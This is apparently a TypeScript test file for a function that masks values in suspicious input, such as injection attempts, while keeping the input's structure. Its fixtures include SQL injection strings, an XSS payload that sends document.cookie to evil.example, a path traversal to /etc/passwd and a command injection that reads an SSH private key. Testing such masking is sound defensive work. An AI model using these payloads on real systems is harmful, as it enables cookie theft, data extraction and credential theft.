import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isInterpreterWord } from '#models/explain/interpreter-words.ts';
import { maskFragment, MAX_MASKED_CHARS, SHOWN_CHARS } from '#models/explain/mask-fragment.ts';

const SUSPICIOUS = { worstScore: 0.9 };

describe('a masked fragment', () => {
  it.each([
    ["7' or '1'='1", "9' or '9'='9"],
    ["hunter2' union select card, 17 from wallets -- ", "huaaaa9' union select aaaa, 99 from aaaaaaa -- "],
    [
      '<img src=q onerror=fetch("//evil.example/"+document.cookie)>',
      '<img src=a onerror=fetch("//aaaa.aaaaaaa/"+document.cookie)>'
    ],
    ['../../../etc/passwd', '../../../etc/passwd'],
    ['x; cat /home/marie.curie/.ssh/id_rsa', 'a; cat /aaaa/aaaaa.aaaaa/.ssh/id_rsa'],
    ['\0\n4111-1111 or', '  4999-9999 or']
  ])('keeps the structure of %j and nothing of its values', (text, expected) => {
    expect(maskFragment(text, SUSPICIOUS)).toBe(expected);
  });

  it('is empty for a text nobody suspects', () => {
    expect(maskFragment('Marie Curie, Paris', { worstScore: 0.2 })).toBe('');
  });

  it('shows the suspicious part of a long text', () => {
    const text = `${'Lorem ipsum dolor. '.repeat(200)}" onload=alert(1) ${'sit amet. '.repeat(200)}`;
    expect(maskFragment(text, SUSPICIOUS)).toContain('" onload=alert(9)');
    expect(maskFragment(text, SUSPICIOUS, 3800)).toContain('" onload=alert(9)');
    expect(maskFragment(text, SUSPICIOUS, 5000)).not.toContain('onload');
  });

  it('shows no half of a word as a word, and no length of a long secret', () => {
    expect(maskFragment('selectseven'.repeat(60), SUSPICIOUS)).toBe('aaaaaaaa…');
    expect(maskFragment(`'${'q'.repeat(30)}'`, SUSPICIOUS)).toBe("'qqqaaaaaaaa'");
  });

  it(`never shows more than ${SHOWN_CHARS} letters and digits of a value, wherever one looks`, () => {
    const piece = fc.oneof(
      fc.stringMatching(/^[b-zB-Z0-8]{1,40}$/),
      fc.string({ unit: 'binary', maxLength: 60 }),
      fc.constantFrom("' or ", ' select ', '<script>', '=', '--', '/', 'select', '_', '\u{1F600}', 'ß', '٣')
    );
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 40 }),
        fc.option(fc.nat({ max: 2_000 }), { nil: undefined }),
        (pieces, from) => {
          const masked = maskFragment(pieces.join(''), SUSPICIOUS, from);
          expect(masked.length).toBeLessThanOrEqual(MAX_MASKED_CHARS);
          const words = masked.match(/[\p{L}\p{M}\p{N}_]+/gu) ?? [];
          const last = words.at(-1) ?? '';
          const shown = words
            .filter(
              (word) =>
                !isInterpreterWord(word) && !(masked.endsWith('…') && masked.endsWith(`${last}…`) && word === last)
            )
            .join('')
            .replace(/[a9_]/g, '');
          expect(shown.length).toBeLessThanOrEqual(SHOWN_CHARS);
          expect(masked).not.toMatch(/[\p{Cc}\p{Cf}]/u);
        }
      ),
      { numRuns: 500 }
    );
  });
});
